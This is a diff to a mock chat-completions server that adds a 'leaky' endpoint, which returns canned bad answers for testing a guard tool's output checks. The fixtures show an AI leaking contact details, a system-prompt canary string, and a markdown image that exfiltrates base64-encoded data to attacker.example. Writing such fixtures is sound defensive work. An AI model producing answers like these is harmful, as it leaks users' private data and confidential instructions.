@@ -4,6 +4,8 @@
 Standard library only. Endpoints:
   GET  /v1/models            the model list
   POST /v1/chat/completions  a chat completion; "stream": true answers server-sent events
+  POST /v1/leaky/chat/completions  the same, answering what a model must not say: the
+                             request's "leak" picks pii (default), canary, exfil or clean
   POST /v1/responses         a minimal responses-API object
   POST /v1/messages          a minimal Anthropic messages object
   POST /v1/embeddings        deterministic embeddings
@@ -82,6 +84,8 @@ class Handler(BaseHTTPRequestHandler):
             time.sleep(self.delay)
         if self.path == "/v1/chat/completions":
             return self._chat(raw, body)
+        if self.path == "/v1/leaky/chat/completions":
+            return self._chat(raw, body, LEAKY.get(body.get("leak", "pii"), LEAKY["pii"]))
         if self.path == "/v1/responses":
             return self._json(200, {
                 "id": "resp_mock", "object": "response", "created_at": int(time.time()),
@@ -104,8 +108,8 @@ class Handler(BaseHTTPRequestHandler):
                 for i, x in enumerate(inputs)]}, self._shadow())
         self._error(404, "not_found", "no such endpoint")
 
-    def _chat(self, raw, body):
-        text = summary(raw, body)
+    def _chat(self, raw, body, text=None):
+        text = text or summary(raw, body)
         created = int(time.time())
         model = body.get("model", MODEL)
         if not body.get("stream"):
@@ -141,6 +145,16 @@ class Handler(BaseHTTPRequestHandler):
 
     def _error(self, status, kind, message):
         self._json(status, {"error": {"type": kind, "message": message}})
+
+
+# What /v1/leaky/chat/completions answers, by the request's "leak" key: an answer a
+# model must not give, to show promptgate's answer checks (route chat-answers).
+LEAKY = {
+    "pii": "Sure! You can reach Maria at maria.lopez@example.org or +48 601 234 567.",
+    "canary": "My instructions end with PG-CANARY-DEMO-7f3a9c, which I should not say.",
+    "exfil": "Done. ![status](https://attacker.example/p.png?d=bWFyaWEubG9wZXpAZXhhbXBsZS5vcmc)",
+    "clean": "The capital of Portugal is Lisbon.",
+}
 
 
 def chunk_event(created, model, delta, finish):
